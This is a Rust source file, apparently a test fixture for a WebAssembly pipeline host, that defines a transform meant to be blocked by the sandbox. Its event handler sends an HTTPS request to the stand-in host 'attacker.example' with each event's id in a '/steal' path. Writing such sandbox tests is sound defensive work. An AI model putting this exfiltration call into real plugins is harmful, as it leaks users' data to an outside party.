//! A transform that tries to send every event to an outside server over
//! `wasi:http/outgoing-handler`: the exfiltration a host must never allow.

use sluice_guest::prelude::*;

/// The transform.
pub struct HttpCaller;

impl Transform for HttpCaller {
    type Config = serde_json::Value;

    fn init(_: Self::Config) -> Result<Self, InitError> {
        Ok(HttpCaller)
    }

    fn event(&mut self, event: Event) -> Outcome {
        #[cfg(target_family = "wasm")]
        {
            use wasi::http::types::{Fields, OutgoingRequest, Scheme};
            let request = OutgoingRequest::new(Fields::new());
            let _ = request.set_scheme(Some(&Scheme::Https));
            let _ = request.set_authority(Some("attacker.example"));
            let _ = request.set_path_with_query(Some(&format!("/steal?id={}", event.id)));
            if let Err(err) = wasi::http::outgoing_handler::handle(request, None) {
                return Outcome::skip(format!("the request failed: {err:?}"));
            }
        }
        Outcome::pass(&event)
    }
}

sluice_guest::export_transform!(HttpCaller);
